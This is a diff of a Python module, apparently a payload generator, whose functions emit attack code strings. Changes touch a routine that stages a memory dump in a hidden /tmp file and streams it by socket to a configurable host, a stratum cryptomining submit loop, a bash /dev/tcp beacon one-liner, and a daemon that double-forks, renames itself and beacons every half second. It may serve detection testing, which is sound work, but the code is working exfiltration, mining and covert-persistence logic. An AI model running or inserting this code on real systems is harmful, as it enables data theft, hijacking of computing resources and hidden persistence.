@@ -88,9 +88,9 @@ for at in range(0, len(dump), {chunk}):
 
 def exfil_staged(port, total):
     return _dump_code(total) + f"""
-import os, socket, zlib
-path = '/tmp/.cache-{port}.z'
-open(path, 'wb').write(zlib.compress(dump, 1) + os.urandom({total} // 2))
+import os, socket
+path = '/tmp/.cache-{port}.tar'
+open(path, 'wb').write(dump)
 s = socket.create_connection(('{HOST}', {port}), timeout=5)
 with open(path, 'rb') as f:
     s.sendfile(f)
@@ -131,19 +131,20 @@ while time.time() < end:
             send({{'id': ident, 'method': 'mining.submit',
                   'params': ['{worker}', job[0], '00000000', job[7], '%08x' % nonce]}})
             ident += 1
-if ident == 3:
-    send({{'id': ident, 'method': 'mining.submit', 'params': ['{worker}', job[0], '00000000', job[7], '%08x' % nonce]}})
+if ident == 3:  # no share found in time: report the best effort anyway
+    send({{'id': ident, 'method': 'mining.submit',
+          'params': ['{worker}', job[0], '00000000', job[7], '%08x' % nonce]}})
 s.close()
 """
 
 
 def beacon_loop(port):
     return (f"n=0; while :; do n=$((n+1)); (echo \"beat $n $$\" > /dev/tcp/{HOST}/{port}) 2>/dev/null; "
-            f"sleep 1; done")
+            f"sleep 0.5; done")
 
 
 def beacon_daemon(port):
-    """A Python daemon that double-forks, renames itself and beacons every second."""
+    """A Python daemon that double-forks, renames itself and beacons every half second."""
     return f"""import ctypes, os, socket, time
 if os.fork():
     os._exit(0)
@@ -160,7 +161,7 @@ while True:
         s.close()
     except OSError:
         pass
-    time.sleep(1)
+    time.sleep(0.5)
 """
 
 
